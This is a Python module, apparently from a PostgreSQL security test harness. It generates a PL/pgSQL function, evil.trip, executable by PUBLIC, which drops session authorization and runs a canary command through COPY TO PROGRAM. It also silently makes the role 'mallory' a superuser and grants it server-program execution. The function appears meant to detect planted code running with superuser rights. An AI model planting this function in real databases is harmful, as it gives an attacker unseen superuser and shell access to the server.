"""What planted code does once it runs: all that a superuser can and an owner cannot, each of it without a word."""

from attacks.attack import World

SCHEMA = "evil"

# The function tries once for each name and role, so that a query that calls it for every row stays as quick as it was.
# It leaves SET ROLE and SET SESSION AUTHORIZATION first: who opened the session can, and so can planted code.
_TRIP = """
CREATE SCHEMA IF NOT EXISTS evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE OR REPLACE FUNCTION evil.trip(attack text) RETURNS boolean LANGUAGE plpgsql
  SET search_path = pg_catalog AS $trip$
DECLARE
  role text := current_setting('role');
  key text := 'evil.k' || md5(attack || current_user || session_user || role);
BEGIN
  IF current_setting(key, true) = 'x' THEN RETURN true; END IF;
  PERFORM set_config(key, 'x', false);
  BEGIN EXECUTE 'SET SESSION AUTHORIZATION DEFAULT'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN PERFORM set_config('role', 'none', false); EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN
    EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch ' || $folder$@CANARIES@/$folder$ || attack);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN EXECUTE 'ALTER ROLE mallory SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'GRANT pg_execute_server_program TO mallory'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN PERFORM set_config('role', role, false); EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END
$trip$;
GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA evil TO PUBLIC;
"""


def trip_function(world: World) -> str:
    """SQL that makes evil.trip(), which leaves the canary of an attack where a superuser runs it."""
    return _TRIP.replace("@CANARIES@", str(world.canaries))


def trip(world: World, attack: str) -> str:
    """The call of it for one attack."""
    return f"evil.trip('{world.canary(attack).name}')"
